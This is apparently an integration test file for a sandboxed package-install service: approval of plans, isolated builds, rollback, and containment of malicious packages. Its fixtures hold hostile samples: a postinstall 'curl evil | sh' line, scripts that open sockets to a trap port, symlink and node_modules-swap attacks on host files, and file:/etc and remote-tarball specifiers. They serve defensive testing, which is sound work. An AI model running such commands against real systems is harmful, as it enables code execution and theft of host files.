/**
 * Managed packages (issue #20) through the real service and the official MCP client, against a
 * real npm registry on loopback (verdaccio over HTTPS, seeded by npm publish): plans that run no
 * package code, owner approval on the dashboard REST, isolated builds into verified releases,
 * bindings mounted into new workspaces only, the toolbox, rollback and remove with generations,
 * a tampered tarball, install scripts off unless approved, a builder that reaches only the registry.
 */
import { createServer, type Server } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Client } from '@modelcontextprotocol/client';
import { call, connectV2, dashboardLogin, httpRequest, startService, type Service } from './harness.js';
import { REPO_FILES, startGitHost, startWorkspaceService } from './workspace-fixture.js';
import { loopsUnder, mountsUnder } from './cleanup.js';
import { startRegistry, type Registry } from '../fixtures/verdaccio.js';
import { startPyIndex, type PyIndex } from '../fixtures/pypi-index.js';
import { execFileSync } from 'node:child_process';
import { chmodSync, chownSync, copyFileSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { GitHost } from '../fixtures/githost.js';

let host: GitHost;
let reg: Registry;
let py: PyIndex;
let svc: Service;
let c: Client;
let repoUrl: string;
let oldWs: string;
let trap: Server;
let trapHits = 0;
/** The service's config (a restart starts it again on the same data directory with it). */
let svcConfig: Record<string, unknown>;

type R = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

async function ok(name: string, args: Record<string, unknown>): Promise<R> {
  const r = await call(c, name, args);
  if (!r.ok) throw new Error(`${name}: ${r.text}`);
  return r.result as R;
}
async function refused(name: string, args: Record<string, unknown>): Promise<{ code: string; message: string; details: R }> {
  const r = await call(c, name, args);
  if (r.ok) throw new Error(`${name} should have been refused: ${JSON.stringify(r.result)}`);
  return r.error as unknown as { code: string; message: string; details: R };
}
let session: { cookie: string; csrf: string } | undefined;
async function approve(approvalId: string): Promise<R> {
  session ??= await dashboardLogin(svc);
  const { cookie, csrf } = session;
  const list = JSON.parse((await httpRequest(svc.url, 'GET', '/api/v1/approvals?kind=package_plan&state=pending', { cookie })).body).approvals as R[];
  const req = list.find((a) => a.id === approvalId);
  const r = await httpRequest(svc.url, 'POST', `/api/v1/approvals/${approvalId}/approve`, { cookie, 'x-csrf-token': csrf });
  expect(r.status).toBe(200);
  return req!;
}
async function waitApply(applyId: string): Promise<R> {
  for (let i = 0; i < 60; i++) {
    const s = await ok('packages_status', { applyId, waitMs: 10000 });
    if (s.state === 'SUCCEEDED' || s.state === 'FAILED') return s;
  }
  throw new Error('apply did not end');
}
/** Plans, approves on the dashboard and applies; returns the plan and the ended apply. */
async function install(args: Record<string, unknown>): Promise<{ plan: R; apply: R }> {
  const plan = await ok('packages_plan', args);
  expect(plan.approval).toBe('required');
  await approve(plan.approvalRequestId);
  const started = await ok('packages_apply', { planId: plan.planId, planDigest: plan.planDigest });
  return { plan, apply: await waitApply(started.applyId) };
}
async function openWs(): Promise<string> {
  return (await ok('workspace_open', { repositoryUrl: repoUrl, idempotencyKey: `pk-${Math.random().toString(36).slice(2)}` })).workspaceId;
}
const sh = async (ws: string, command: string) => (await ok('exec_run', { workspaceId: ws, command })) as { exitCode: number; stdout: string; stderr: string };

beforeAll(async () => {
  trap = createServer((s) => {
    trapHits++;
    s.destroy();
  });
  await new Promise<void>((r) => trap.listen(0, '127.0.0.1', r));
  const trapPort = (trap.address() as { port: number }).port;
  reg = await startRegistry();
  await reg.publish({ name: 'left-helper', version: '1.0.0' });
  await reg.publish({
    name: 'cli-demo',
    version: '1.0.0',
    dependencies: { 'left-helper': '^1.0.0' },
    bin: { 'cli-demo': 'bin/cli.js' },
    files: { 'bin/cli.js': "#!/usr/bin/env node\nrequire('left-helper');\nconsole.log('cli-demo 1.0.0');\n" },
  });
  await reg.publish({ name: 'cli-demo', version: '1.1.0', dependencies: { 'left-helper': '^1.0.0' }, bin: { 'cli-demo': 'bin/cli.js' }, files: { 'bin/cli.js': "#!/usr/bin/env node\nconsole.log('cli-demo 1.1.0');\n" } });
  const postinstall = `node -e "require('fs').writeFileSync('ran.txt', 'ran'); const n=require('net'); const s=n.connect(${trapPort},'127.0.0.1'); s.on('error',()=>{}); const h=require('https'); h.get('https://127.0.0.1:${trapPort}/',()=>{}).on('error',()=>{});"`;
  await reg.publish({ name: 'with-postinstall', version: '1.0.0', scripts: { postinstall } });
  await reg.publish({ name: 'tamper-me', version: '1.0.0' });
  py = await startPyIndex();
  py.addWheel({ name: 'tiny-dep', version: '0.1', files: { 'tiny_dep/__init__.py': 'VALUE = "tiny"\n' } });
  py.addWheel({
    name: 'hello-tool',
    version: '1.0',
    requires: ['tiny-dep'],
    files: { 'hello_tool/__init__.py': 'import tiny_dep\ndef main():\n    print("hello-tool 1.0", tiny_dep.VALUE)\n' },
    consoleScripts: { 'hello-tool': 'hello_tool:main' },
  });
  py.addSdist('only-sdist', '1.0');
  // One CA file for both registries, as an operator with one internal CA would have.
  const caFile = join(mkdtempSync(join(tmpdir(), 'atelier-pk-ca-')), 'ca.pem');
  writeFileSync(caFile, readFileSync(reg.caCertPath, 'utf8') + readFileSync(py.caCertPath, 'utf8'));
  host = await startGitHost();
  repoUrl = (await host.createRepo('approved/pkgs', REPO_FILES)).url;
  svcConfig = { packagesEnabled: true, packagesNpmRegistry: reg.url, packagesPythonIndex: py.url, packagesCaFile: caFile };
  svc = await startWorkspaceService(host, { config: svcConfig });
  c = await connectV2(svc);
  oldWs = await openWs();
}, 240_000);

afterAll(async () => {
  await c?.close();
  await svc?.dispose();
  await host?.close();
  await reg?.close();
  await py?.close();
  trap?.close();
});

describe('npm plans', () => {
  let plan: R;
  it('resolve without installing: exact version, integrity, pinned dependencies, binaries, approval required', async () => {
    plan = await ok('packages_plan', { ecosystem: 'npm', name: 'cli-demo', version: '^1.0.0 <1.1.0' });
    expect(plan.planId).toMatch(/^pkp_/);
    expect(plan.version).toBe('1.0.0');
    expect(plan.source).toBe(reg.url);
    expect(plan.integrity).toMatch(/^sha512-/);
    expect(plan.dependencyCount).toBe(1);
    expect(plan.packages.map((p: R) => `${p.name}@${p.version}`).sort()).toEqual(['cli-demo@1.0.0', 'left-helper@1.0.0']);
    for (const p of plan.packages) expect(p.integrity).toMatch(/^sha512-/);
    expect(plan.binaries).toEqual([{ name: 'cli-demo', package: 'cli-demo@1.0.0', topLevel: true }]);
    expect(plan.planDigest).toMatch(/^[0-9a-f]{64}$/);
    expect(plan.approval).toBe('required');
    expect(plan.approvalState).toBe('pending');
    expect(plan.lifecycleScripts).toEqual({ allowed: false, present: [], willRun: [] });
    // Every fresh version is recent here: the plan says so.
    expect(plan.warnings.some((w: R) => w.kind === 'recently_published')).toBe(true);
  });

  it('are immutable: the same resolution is the same plan; a different request is another plan', async () => {
    const again = await ok('packages_plan', { ecosystem: 'npm', name: 'cli-demo', version: '^1.0.0 <1.1.0' });
    expect(again.planId).toBe(plan.planId);
    expect(again.planDigest).toBe(plan.planDigest);
    const other = await ok('packages_plan', { ecosystem: 'npm', name: 'cli-demo', version: '1.1.0' });
    expect(other.planDigest).not.toBe(plan.planDigest);
  });

  it('cannot be applied before the owner approves, nor with another digest', async () => {
    const wrong = await refused('packages_apply', { planId: plan.planId, planDigest: 'a'.repeat(64) });
    expect(wrong.code).toBe('INVALID_ARGUMENT');
    expect(wrong.details.field).toBe('planDigest');
    const early = await refused('packages_apply', { planId: plan.planId, planDigest: plan.planDigest });
    expect(early.code).toBe('PERMISSION_DENIED');
    expect(early.details.approvalRequestId).toBe(plan.approvalRequestId);
    const status = await ok('packages_status', {});
    expect(status.plansAwaitingApproval.map((p: R) => p.planId)).toContain(plan.planId);
  });

  it('apply after approval builds a verified release bound for new workspaces, the toolbox, not old ones', async () => {
    const shown = await approve(plan.approvalRequestId);
    // The owner reads the whole plan, every pinned package and the digest the approval binds.
    expect(shown.kind).toBe('package_plan');
    expect(shown.subject).toContain('cli-demo@1.0.0');
    expect(shown.subject).toContain('"left-helper@1.0.0" integrity "sha512-');
    expect(shown.subjectSha256).toBe(plan.planDigest);
    const started = await ok('packages_apply', { planId: plan.planId, planDigest: plan.planDigest });
    expect(started.applyId).toMatch(/^pka_/);
    const replay = await ok('packages_apply', { planId: plan.planId, planDigest: plan.planDigest });
    expect(replay.applyId).toBe(started.applyId);
    const done = await waitApply(started.applyId);
    expect(done.state, JSON.stringify(done)).toBe('SUCCEEDED');
    expect(done.releaseId).toMatch(/^pkr_/);
    const list = await ok('packages_list', {});
    const b = list.bindings.find((x: R) => x.name === 'cli-demo');
    expect(b).toMatchObject({ scope: 'owner', ecosystem: 'npm', generation: 1, release: { releaseId: done.releaseId, version: '1.0.0', stale: false, present: true, binaries: ['cli-demo'] } });
    expect(b.release.digest).toMatch(/^[0-9a-f]{64}$/);

    const fresh = await openWs();
    const r = await sh(fresh, 'cli-demo && command -v cli-demo && touch /opt/packages/npm/cli-demo/node_modules/x 2>&1; echo rc=$?');
    expect(r.stdout).toContain('cli-demo 1.0.0');
    expect(r.stdout).toContain('/opt/packages/npm/cli-demo/node_modules/.bin/cli-demo');
    expect(r.stdout).toMatch(/Read-only file system[\s\S]*rc=1/);
    const old = await sh(oldWs, 'cli-demo; echo rc=$?');
    expect(old.stdout).toContain('rc=127');
    const summary = await ok('packages_status', {});
    expect(summary.workspacesNeedingRecreation.map((w: R) => w.workspaceId)).toContain(oldWs);
    expect(summary.workspacesNeedingRecreation.map((w: R) => w.workspaceId)).not.toContain(fresh);
    const tb = await ok('bash', { target: 'toolbox', command: 'cli-demo; (exec 3<>/dev/tcp/1.1.1.1/443) 2>/dev/null && echo NET || echo NONET' });
    expect(tb.stdout).toContain('cli-demo 1.0.0');
    expect(tb.stdout).toContain('NONET');
  });

  it('rollback and remove are guarded by generations; remove collects what no workspace mounts', async () => {
    const { apply } = await install({ ecosystem: 'npm', name: 'cli-demo', version: '1.1.0' });
    expect(apply.state, JSON.stringify(apply)).toBe('SUCCEEDED');
    let b = (await ok('packages_list', { includeHistory: true })).bindings.find((x: R) => x.name === 'cli-demo');
    expect(b.generation).toBe(2);
    expect(b.release.version).toBe('1.1.0');
    expect(b.history.map((h: R) => h.version).sort()).toEqual(['1.0.0', '1.1.0']);
    const first = b.history.find((h: R) => h.version === '1.0.0').releaseId;
    const stale = await refused('packages_rollback', { bindingId: b.bindingId, releaseId: first, expectedGeneration: 1 });
    expect(stale.code).toBe('STALE_GENERATION');
    const rb = await ok('packages_rollback', { bindingId: b.bindingId, releaseId: first, expectedGeneration: 2 });
    expect(rb.generation).toBe(3);
    b = (await ok('packages_list', {})).bindings.find((x: R) => x.name === 'cli-demo');
    expect(b.release.version).toBe('1.0.0');
    expect((await refused('packages_remove', { bindingId: b.bindingId, expectedGeneration: 2 })).code).toBe('STALE_GENERATION');
    const rm = await ok('packages_remove', { bindingId: b.bindingId, expectedGeneration: 3 });
    expect(rm.removed).toBe(true);
    // 1.1.0 was mounted by no workspace: collected; 1.0.0 stays while a retained workspace mounts it.
    expect(rm.collectedReleases).toContain(apply.releaseId);
    expect(rm.collectedReleases).not.toContain(first);
    expect((await ok('packages_list', {})).bindings.find((x: R) => x.name === 'cli-demo')).toBeUndefined();
    const fresh = await openWs();
    expect((await sh(fresh, 'cli-demo; echo rc=$?')).stdout).toContain('rc=127');
  });

  it('a tampered tarball fails integrity and installs nothing', async () => {
    const plan = await ok('packages_plan', { ecosystem: 'npm', name: 'tamper-me' });
    reg.tamper('tamper-me', '1.0.0');
    await approve(plan.approvalRequestId);
    const started = await ok('packages_apply', { planId: plan.planId, planDigest: plan.planDigest });
    const done = await waitApply(started.applyId);
    expect(done.state).toBe('FAILED');
    expect(done.errorCode).toBe('INTEGRITY_MISMATCH');
    expect(done.outputTail).toMatch(/EINTEGRITY|integrity/i);
    expect(done.releaseId).toBeNull();
    expect((await ok('packages_list', {})).bindings.find((x: R) => x.name === 'tamper-me')).toBeUndefined();
  });

  it('install scripts do not run unless the plan allows them; when they do, the builder reaches only the registry', async () => {
    const off = await install({ ecosystem: 'npm', name: 'with-postinstall' });
    expect(off.plan.lifecycleScripts.allowed).toBe(false);
    expect(off.plan.lifecycleScripts.present).toEqual([{ package: 'with-postinstall@1.0.0', scripts: { postinstall: expect.stringContaining('ran.txt') } }]);
    expect(off.plan.lifecycleScripts.willRun).toEqual([]);
    expect(off.plan.warnings.some((w: R) => w.kind === 'install_scripts')).toBe(true);
    expect(off.apply.state).toBe('SUCCEEDED');
    const tb = await ok('bash', { target: 'toolbox', command: 'ls /opt/packages/npm/with-postinstall/node_modules/with-postinstall' });
    expect(tb.stdout).not.toContain('ran.txt');

    const on = await install({ ecosystem: 'npm', name: 'with-postinstall', lifecycleScripts: true });
    expect(on.plan.planDigest).not.toBe(off.plan.planDigest);
    expect(on.plan.lifecycleScripts.willRun).toHaveLength(1);
    expect(on.apply.state, JSON.stringify(on.apply)).toBe('SUCCEEDED');
    const tb2 = await ok('bash', { target: 'toolbox', command: 'cat /opt/packages/npm/with-postinstall/node_modules/with-postinstall/ran.txt' });
    expect(tb2.stdout).toBe('ran');
    // The script tried a loopback server on the host, directly and through the proxy: nothing arrived.
    expect(trapHits).toBe(0);

    // A slow build of the same package: removing its binding meanwhile is a CONFLICT.
    await reg.publish({ name: 'with-postinstall', version: '1.1.0', scripts: { postinstall: 'sleep 4' } });
    const b = (await ok('packages_list', {})).bindings.find((x: R) => x.name === 'with-postinstall');
    const slow = await ok('packages_plan', { ecosystem: 'npm', name: 'with-postinstall', version: '1.1.0', lifecycleScripts: true });
    await approve(slow.approvalRequestId);
    const started = await ok('packages_apply', { planId: slow.planId, planDigest: slow.planDigest });
    const busy = await refused('packages_remove', { bindingId: b.bindingId, expectedGeneration: b.generation });
    expect([busy.code, busy.details.applyId]).toEqual(['CONFLICT', started.applyId]);
    expect((await waitApply(started.applyId)).state).toBe('SUCCEEDED');
  });

  it('a malicious package: symlinks it plants are never followed by the runner; a special file fails the build', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'atelier-pk-canary-'));
    const canary = join(dir, 'canary');
    writeFileSync(canary, 'host secret', { mode: 0o600 });
    await reg.publish({ name: 'evil-link', version: '1.0.0', scripts: { postinstall: `ln -s ${canary} host-link && ln -s / root-link && ln -s ${dir} dir-link` } });
    await reg.publish({ name: 'evil-fifo', version: '1.0.0', scripts: { postinstall: 'mkfifo pipe' } });
    const link = await install({ ecosystem: 'npm', name: 'evil-link', lifecycleScripts: true });
    expect(link.apply.state, JSON.stringify(link.apply)).toBe('SUCCEEDED');
    const st = statSync(canary);
    expect([st.uid, st.mode & 0o777]).toEqual([0, 0o600]);
    expect(statSync(dir).uid).toBe(0);
    expect(readFileSync(canary, 'utf8')).toBe('host secret');
    const tb = await ok('bash', { target: 'toolbox', command: 'cat /opt/packages/npm/evil-link/node_modules/evil-link/host-link 2>&1; echo rc=$?' });
    expect(tb.stdout).not.toContain('host secret');
    const fifo = await install({ ecosystem: 'npm', name: 'evil-fifo', lifecycleScripts: true });
    expect([fifo.apply.state, fifo.apply.errorCode]).toEqual(['FAILED', 'TREE_MISMATCH']);
    expect((await ok('packages_list', {})).bindings.find((x: R) => x.name === 'evil-fifo')).toBeUndefined();
  });

  it('a postinstall that swaps node_modules for a symlink to a host directory: refused, nothing followed, no host file changed, no release', async () => {
    const dir = decoy('evil-swap');
    try {
      await reg.publish({
        name: 'evil-swap',
        version: '1.0.0',
        // The same path exists inside the builder (its own /tmp), so npm finishes happily through the link.
        scripts: { postinstall: `mkdir -p ${dir} && cp -a /build/node_modules/. ${dir}/ && mv /build/node_modules /build/nm-real && ln -s ${dir} /build/node_modules` },
      });
      const r = await install({ ecosystem: 'npm', name: 'evil-swap', lifecycleScripts: true });
      expect([r.apply.state, r.apply.errorCode], JSON.stringify(r.apply)).toEqual(['FAILED', 'TREE_MISMATCH']);
      expect(r.apply.error).toMatch(/^node_modules: the install left a symbolic link/);
      expectUntouched(dir, 'evil-swap');
      expectReleasesAreImages();
      expect((await ok('packages_list', {})).bindings.find((x: R) => x.name === 'evil-swap')).toBeUndefined();
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('a postinstall that leaves a loop swapping node_modules with a symlink: the loop dies with the build, nothing is followed, a release is an image of root\'s', async () => {
    const dir = decoy('evil-swapper');
    const marker = `swaploop${Math.random().toString(36).slice(2, 10)}`;
    try {
      await reg.publish({
        name: 'evil-swapper',
        version: '1.0.0',
        files: { 'index.js': 'module.exports = 1;\n', 'swap.py': SWAPPER },
        scripts: { postinstall: `mkdir -p ${dir} && cp -a /build/node_modules/. ${dir}/ && ln -s ${dir} /build/nm-link && (setsid python3 swap.py ${marker} </dev/null >/dev/null 2>&1 &)` },
      });
      const r = await install({ ecosystem: 'npm', name: 'evil-swapper', lifecycleScripts: true });
      // The build's processes are gone before root reads the tree (its pid namespace and cgroup ended with npm).
      expect(processesNaming(marker)).toEqual([]);
      expectUntouched(dir, 'evil-swapper');
      expectReleasesAreImages();
      // Depending on where the loop was when npm ended: refused (a symlink at the top), or built from the real directory.
      if (r.apply.state === 'SUCCEEDED') {
        const tb = await ok('bash', { target: 'toolbox', command: 'ls -A /opt/packages/npm/evil-swapper/node_modules' });
        expect(tb.stdout).not.toContain('.canary');
      } else {
        expect(['TREE_MISMATCH', 'BUILD_FAILED'], JSON.stringify(r.apply)).toContain(r.apply.errorCode);
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('the builder\'s mountinfo names no host path: /build is its own filesystem, the proxy and the CA come from no host directory', async () => {
    await reg.publish({ name: 'mountinfo-probe', version: '1.0.0', scripts: { postinstall: 'cat /proc/self/mountinfo > mountinfo.txt' } });
    const r = await install({ ecosystem: 'npm', name: 'mountinfo-probe', lifecycleScripts: true });
    expect(r.apply.state, JSON.stringify(r.apply)).toBe('SUCCEEDED');
    const mountinfo = (await ok('bash', { target: 'toolbox', command: 'cat /opt/packages/npm/mountinfo-probe/node_modules/mountinfo-probe/mountinfo.txt' })).stdout as string;
    expect(mountinfo).toContain(' /build ');
    for (const dir of [svc.dataDir, process.env.ATELIER_TEST_RUN_DIR].filter((d): d is string => !!d)) {
      expect(mountinfo.split('\n').filter((l) => l.includes(dir)), `lines naming ${dir}`).toEqual([]);
    }
    const at = (m: string) => mountinfo.split('\n').map((l) => [l.split(' ')[3], l.split(' ')[4], l.split(' - ')[1]?.split(' ')[0]]).find((f) => f[1] === m);
    expect(at('/build')).toEqual(['/work', '/build', 'ext4']);
    expect(at('/run/egress')).toEqual(['/egress', '/run/egress', 'tmpfs']);
  });

  it('apt is not supported; bad input is named', async () => {
    expect((await refused('packages_plan', { ecosystem: 'apt', name: 'curl' })).code).toBe('NOT_SUPPORTED');
    const noWs = await refused('packages_plan', { ecosystem: 'npm', name: 'cli-demo', scope: 'workspace' });
    expect(noWs.details.field).toBe('workspaceId');
    const unknownWs = await refused('packages_plan', { ecosystem: 'npm', name: 'cli-demo', scope: 'workspace', workspaceId: 'ws_' + 'z'.repeat(24) });
    expect([unknownWs.code, unknownWs.details.field]).toEqual(['NOT_FOUND', 'workspaceId']);
    expect((await refused('packages_plan', { ecosystem: 'npm', name: 'no-such-package-here' })).code).toBe('NOT_FOUND');
    expect((await refused('packages_plan', { ecosystem: 'npm', name: 'cli-demo', version: '9.9.9' })).details.field).toBe('version');
    expect((await refused('packages_plan', { ecosystem: 'npm', name: 'cli-demo', python: '3.11' })).details.field).toBe('python');
    expect((await refused('packages_plan', { ecosystem: 'uv', name: 'x', lifecycleScripts: true })).details.field).toBe('lifecycleScripts');
    expect((await refused('packages_plan', { ecosystem: 'npm', name: 'x', python: '3.x' })).details.field).toBe('python');
    expect((await refused('packages_apply', { planId: 'pkp_' + 'q'.repeat(24), planDigest: 'A'.repeat(64) })).details.field).toBe('planDigest');
    expect((await refused('packages_apply', { planId: 'pkp_' + 'q'.repeat(24), planDigest: 'a'.repeat(64) })).details.field).toBe('planId');
    expect((await refused('packages_status', { applyId: 'pka_' + 'q'.repeat(24) })).details.field).toBe('applyId');
    expect((await refused('packages_status', { resolutionId: 'pkq_' + 'q'.repeat(24) })).details.field).toBe('resolutionId');
    expect((await refused('packages_rollback', { bindingId: 'pkb_' + 'q'.repeat(24), releaseId: 'pkr_' + 'q'.repeat(24), expectedGeneration: 1 })).details.field).toBe('bindingId');
    expect((await refused('packages_remove', { bindingId: 'pkb_' + 'q'.repeat(24), expectedGeneration: -1 })).details.field).toBe('expectedGeneration');
  });
});

describe('plans after a refusal', () => {
  it('a denied plan can be asked again: planning the same package gives a new plan with a new approval request', async () => {
    await reg.publish({ name: 'deny-me', version: '1.0.0' });
    const first = await ok('packages_plan', { ecosystem: 'npm', name: 'deny-me' });
    session ??= await dashboardLogin(svc);
    const d = await httpRequest(svc.url, 'POST', `/api/v1/approvals/${first.approvalRequestId}/deny`, { cookie: session.cookie, 'x-csrf-token': session.csrf });
    expect(d.status).toBe(200);
    const no = await refused('packages_apply', { planId: first.planId, planDigest: first.planDigest });
    expect([no.code, no.details.approvalState]).toEqual(['PERMISSION_DENIED', 'denied']);
    expect(no.message).toContain('make a new plan');
    const second = await ok('packages_plan', { ecosystem: 'npm', name: 'deny-me' });
    expect(second.planId).not.toBe(first.planId);
    expect(second.planDigest).not.toBe(first.planDigest);
    expect([second.approvalState, second.supersedes]).toEqual(['pending', first.planId]);
    expect(second.approvalRequestId).not.toBe(first.approvalRequestId);
    // While it is pending, planning again is that same plan.
    expect((await ok('packages_plan', { ecosystem: 'npm', name: 'deny-me' })).planId).toBe(second.planId);
  });
});

describe('approvals inside the client (issue #32 item 3)', () => {
  it('a 2026-07-28 client with URL elicitation: packages_apply opens the plan\'s request, the owner approves, the same call starts the build', async () => {
    await reg.publish({ name: 'in-call-pkg', version: '1.0.0' });
    const plan = await ok('packages_plan', { ecosystem: 'npm', name: 'in-call-pkg' });
    expect(plan.approvalState).toBe('pending');
    const { Client: ClientV2, StreamableHTTPClientTransport } = await import('@modelcontextprotocol/client');
    const m = new ClientV2({ name: 'packages-in-call', version: '1.0.0' }, { versionNegotiation: { mode: 'auto' }, capabilities: { elicitation: { url: {} } } });
    const opened: string[] = [];
    m.setRequestHandler('elicitation/create', async (req) => {
      const p = req.params as { mode?: string; url?: string; message: string };
      opened.push(p.url!);
      // The user: the page is the plan's own approval request; the owner approves it there.
      expect(p.url).toBe(`${svc.url}/approvals/${plan.approvalRequestId}`);
      expect(p.message).toMatch(/packages_apply needs the owner's approval of a package plan/);
      await approve(plan.approvalRequestId);
      return { action: 'accept' };
    });
    await m.connect(new StreamableHTTPClientTransport(new URL(svc.mcpUrl), { requestInit: { headers: { Authorization: `Bearer ${svc.token}` } } }));
    try {
      const r = await call(m, 'packages_apply', { planId: plan.planId, planDigest: plan.planDigest });
      if (!r.ok) throw new Error(r.text);
      expect(opened.length).toBe(1);
      const done = await waitApply((r.result as R).applyId);
      expect(done.state, JSON.stringify(done)).toBe('SUCCEEDED');
      session ??= await dashboardLogin(svc);
      const a = JSON.parse((await httpRequest(svc.url, 'GET', `/api/v1/approvals/${plan.approvalRequestId}`, { cookie: session.cookie })).body);
      expect(a).toMatchObject({ kind: 'package_plan', state: 'used', subjectSha256: plan.planDigest });
    } finally {
      await m.close();
    }
  });
});

describe('what the owner approves is what they see (issue #31)', () => {
  it('a lifecycle script value with newlines and fake plan lines stays one quoted line of the plan text', async () => {
    const forged = [
      'node -e "require(\'child_process\').execSync(\'curl evil | sh\')"',
      'lifecycle scripts: off',
      '  "left-helper@1.0.0" integrity "sha512-harmless"',
      'planDigest: ' + '0'.repeat(64),
    ].join('\n');
    await reg.publish({ name: 'forge-lines', version: '1.0.0', scripts: { postinstall: forged } });
    const plan = await ok('packages_plan', { ecosystem: 'npm', name: 'forge-lines', lifecycleScripts: true });
    expect(plan.lifecycleScripts.willRun).toEqual([{ package: 'forge-lines@1.0.0', scripts: { postinstall: forged } }]);
    session ??= await dashboardLogin(svc);
    const shown = JSON.parse((await httpRequest(svc.url, 'GET', `/api/v1/approvals/${plan.approvalRequestId}`, { cookie: session.cookie })).body) as R;
    const lines = (shown.subject as string).split('\n');
    // The script's value is one line, quoted as JSON: its newlines are \n escapes in it.
    expect(lines).toContain(`  "forge-lines@1.0.0" "postinstall": ${JSON.stringify(forged)}`);
    // None of the fake lines stands as a line of its own; the only planDigest line is the real one, last.
    expect(lines.filter((l) => l.startsWith('planDigest: '))).toEqual([`planDigest: ${plan.planDigest}`]);
    expect(lines[lines.length - 1]).toBe(`planDigest: ${plan.planDigest}`);
    expect(lines.filter((l) => l.startsWith('lifecycle scripts: '))).toEqual(['lifecycle scripts: ALLOWED']);
    expect(lines.some((l) => l.includes('sha512-harmless') && !l.includes('"postinstall"'))).toBe(false);
    // Every value from the package is quoted: name, version, integrity, binaries.
    expect(lines[0]).toBe('npm package "forge-lines@1.0.0" for scope owner');
    expect(lines).toContain(`integrity: ${JSON.stringify(plan.integrity)}`);
    expect(lines).toContain(`  "forge-lines@1.0.0" integrity ${JSON.stringify(plan.packages[0].integrity)}`);
    expect(shown.flags).toEqual([]);
  });

  it('a package-plan grant expires like every grant: an apply after its expiry is refused and builds nothing', async () => {
    // Grants here expire as they are issued (the test hook can shorten a grant, never lengthen it).
    const short = await startService({ args: ['--packages-enabled', '--packages-npm-registry', reg.url, '--packages-ca-file', reg.caCertPath], env: { ATELIER_TEST_GRANT_TTL_MS: '0' } });
    try {
      const cs = await connectV2(short);
      const planned = await call(cs, 'packages_plan', { ecosystem: 'npm', name: 'left-helper' });
      if (!planned.ok) throw new Error(planned.text);
      const plan = planned.result as R;
      expect(plan.approval).toBe('required');
      const { cookie, csrf } = await dashboardLogin(short);
      const approved = await httpRequest(short.url, 'POST', `/api/v1/approvals/${plan.approvalRequestId}/approve`, { cookie, 'x-csrf-token': csrf });
      expect(approved.status).toBe(200);
      expect(Date.parse(JSON.parse(approved.body).expiresAt)).toBeLessThanOrEqual(Date.now());
      const applied = await call(cs, 'packages_apply', { planId: plan.planId, planDigest: plan.planDigest });
      expect(applied.ok, applied.ok ? JSON.stringify(applied.result) : '').toBe(false);
      if (!applied.ok) expect([applied.error.code, applied.error.details.approvalState]).toEqual(['PERMISSION_DENIED', 'expired']);
      const view = JSON.parse((await httpRequest(short.url, 'GET', `/api/v1/approvals/${plan.approvalRequestId}`, { cookie })).body) as R;
      expect([view.state, view.usedAt]).toEqual(['expired', null]);
      const status = (await call(cs, 'packages_status', {})) as { ok: true; result: R };
      expect(status.result.inflightApplies).toEqual([]);
      // The spent plan is not offered again: planning the same package asks anew.
      const again = (await call(cs, 'packages_plan', { ecosystem: 'npm', name: 'left-helper' })) as { ok: true; result: R };
      expect([again.result.supersedes, again.result.approvalState]).toEqual([plan.planId, 'pending']);
      await cs.close();
    } finally {
      await short.dispose();
    }
  });
});

describe('plans of hostile specifiers', () => {
  it('a version or a dependency that is not a registry package (remote tarball, git, file) is refused and never fetched by the runner', async () => {
    const port = (trap.address() as { port: number }).port;
    const before = trapHits;
    for (const version of [`http://127.0.0.1:${port}/evil.tgz`, `git+http://127.0.0.1:${port}/evil.git`, 'file:/etc', 'file:../../..']) {
      const e = await refused('packages_plan', { ecosystem: 'npm', name: 'evil-spec', version });
      expect([e.code, e.details.field], version).toEqual(['INVALID_ARGUMENT', 'version']);
    }
    for (const name of ['../../etc', 'http://127.0.0.1/x.tgz', 'Evil Name']) {
      const e = await refused('packages_plan', { ecosystem: 'npm', name });
      expect([e.code, e.details.field], name).toEqual(['INVALID_ARGUMENT', 'name']);
    }
    await reg.publish({ name: 'remote-dep', version: '1.0.0', dependencies: { evil: `http://127.0.0.1:${port}/evil.tgz` } });
    await reg.publish({ name: 'git-dep', version: '1.0.0', dependencies: { evil: `git+http://127.0.0.1:${port}/evil.git` } });
    for (const name of ['remote-dep', 'git-dep']) {
      const e = await refused('packages_plan', { ecosystem: 'npm', name });
      expect(e.code, name).toBe('FAILED_PRECONDITION');
      expect(e.message).toContain('evil');
    }
    expect(trapHits).toBe(before);
  });

  it('a wheel whose dependency is a direct URL is refused and the URL never fetched by the runner', async () => {
    const port = (trap.address() as { port: number }).port;
    const before = trapHits;
    py.addWheel({ name: 'url-dep', version: '1.0', requires: [`evil-wheel @ http://127.0.0.1:${port}/evil_wheel-1.0-py3-none-any.whl`], files: { 'url_dep/__init__.py': '' } });
    const r = await call(c, 'packages_plan', { ecosystem: 'uv', name: 'url-dep' });
    expect(r.ok, JSON.stringify(r.ok ? r.result : r.error)).toBe(false);
    const e = r.error as unknown as { code: string; message: string; details: R };
    expect([e.code, e.details.field, e.details.dependency]).toEqual(['FAILED_PRECONDITION', 'name', 'evil-wheel']);
    expect(trapHits).toBe(before);
  });
});

describe('toolkits', () => {
  it('a workspace opened with toolkits mounts only those, and its set is fixed unless changes are allowed', async () => {
    await install({ ecosystem: 'npm', name: 'left-helper' });
    const bad = await refused('workspace_open', { repositoryUrl: repoUrl, idempotencyKey: 'tk-bad-0001', toolkits: ['no-such-toolkit'] });
    expect([bad.code, bad.details.field]).toEqual(['INVALID_ARGUMENT', 'toolkits[0]']);
    const alone = await refused('workspace_open', { repositoryUrl: repoUrl, idempotencyKey: 'tk-bad-0002', allowToolkitWorkspaceChanges: true });
    expect(alone.details.field).toBe('allowToolkitWorkspaceChanges');
    const fixed = (await ok('workspace_open', { repositoryUrl: repoUrl, idempotencyKey: 'tk-fixed-01', toolkits: ['npm:left-helper'] })).workspaceId;
    const r = await sh(fixed, 'ls /opt/packages/npm');
    expect(r.stdout.trim().split('\n')).toEqual(['left-helper']);
    const refusedPlan = await refused('packages_plan', { ecosystem: 'npm', name: 'tamper-me', scope: 'workspace', workspaceId: fixed });
